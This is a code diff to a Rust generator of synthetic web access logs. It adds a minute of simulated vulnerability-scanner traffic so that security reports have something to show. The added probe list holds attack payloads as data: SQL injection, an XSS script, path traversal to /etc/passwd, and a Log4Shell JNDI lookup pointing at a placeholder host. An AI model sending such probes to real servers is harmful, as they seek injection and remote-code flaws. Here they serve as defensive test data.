@@ -1,6 +1,7 @@
 //! Writes the bundled sample log (`sample/access.log`): synthetic traffic of a small web shop over
 //! two days in nginx/Apache formats, with the odd lines a real server writes (timeouts, TLS on the
-//! plain port, an error-log line mixed in) so the sample shows rows and rejects.
+//! plain port, an error-log line mixed in) so the sample shows rows and rejects, and a minute of a
+//! vulnerability scanner's probes, so the security reports have something to show.
 //!
 //! `make-sample-log LINES SEED > sample/access.log`
 
@@ -48,6 +49,22 @@ const PATHS: &[&str] = &[
     "/api/v1/stock",
 ];
 const MISSING: &[&str] = &["/wp-login.php", "/.env", "/old-page", "/products/teapot"];
+/// A scanner's minute: these requests, one after another, all answered 404.
+const SCANNER_LINES: std::ops::Range<i64> = 1200..1230;
+const SCANNER: &str = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)";
+const PROBES: &[&str] = &[
+    "/.env",
+    "/.git/config",
+    "/wp-login.php",
+    "/phpmyadmin/index.php",
+    "/index.php?id=1%27%20or%20%271%27=%271",
+    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+    "/static/..%2f..%2f..%2fetc%2fpasswd",
+    "/?x=${jndi:ldap://198.51.100.66/a}",
+    "/backup.sql",
+    "/cgi-bin/test.cgi",
+];
+
 const REFERRERS: &[&str] = &[
     "-",
     "-",
@@ -102,6 +119,15 @@ fn main() -> anyhow::Result<()> {
                     format!("{client} - {user} [{time}] \"{method} {path}{query} HTTP/1.1\" {status} {bytes} \"{referrer}\" \"{ua}\" {request_time:.3}")
                 }
             }
+        };
+        let line = match SCANNER_LINES.contains(&i) {
+            // the same draws as any line, so the rest of the sample stays as it was
+            true => {
+                let scan_time = clf_timestamp(START + SCANNER_LINES.start * SPAN_SECONDS / lines);
+                let probe = PROBES[(i - SCANNER_LINES.start) as usize % PROBES.len()];
+                format!("203.0.113.250 - - [{scan_time}] \"GET {probe} HTTP/1.1\" 404 153 \"-\" \"{SCANNER}\" 0.001")
+            }
+            false => line,
         };
         writeln!(out, "{line}")?;
     }
